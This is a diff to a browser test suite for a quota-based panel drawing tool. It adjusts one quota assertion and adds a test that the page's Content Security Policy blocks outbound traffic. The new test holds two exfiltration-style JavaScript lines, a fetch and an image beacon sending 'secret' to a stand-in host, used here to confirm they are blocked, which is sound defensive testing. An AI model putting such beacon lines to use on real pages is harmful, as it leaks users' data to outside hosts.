@@ -343,7 +343,7 @@ def test_the_panel_is_counted_against_the_quotas(tab, examples):
             )
         ]
         assert name.startswith(quota["of"][0]["category"])
-        assert (int(pool), seats) == (len(counted), f"{quota['low']}–{quota['high']}")
+        assert (int(pool), seats) == (len(counted), "–".join(map(str, sorted({quota["low"], quota["high"]}))))
         assert int(on_panel) == len(set(counted) & set(drawn))
         assert met == "✓met"
 
@@ -439,6 +439,17 @@ def test_of_a_chosen_folder_only_the_public_part_is_read(tab, good):
     tab.evaluate("last")
     assert [alike(*finding) for finding in tab.evaluate(SHOWN)] == by_python(good)
     assert not tab.evaluate("[...shown.bundle.files.keys()].some((name) => name === 'key.json')")
+
+
+@needs_chromium
+def test_the_page_cannot_send_anything_anywhere(tab, good):
+    chosen(tab, good)
+    for way in ("fetch('http://draw.example/?secret')", "new Image().src = 'http://draw.example/?secret'"):
+        tab.faults.clear()
+        tab.evaluate(f"Promise.resolve().then(() => {way}).catch(() => null)")
+        tab.evaluate("new Promise((done) => setTimeout(done, 100))")
+        assert any("Content Security Policy" in fault for fault in tab.faults)
+    tab.faults.clear()
 
 
 @needs_chromium
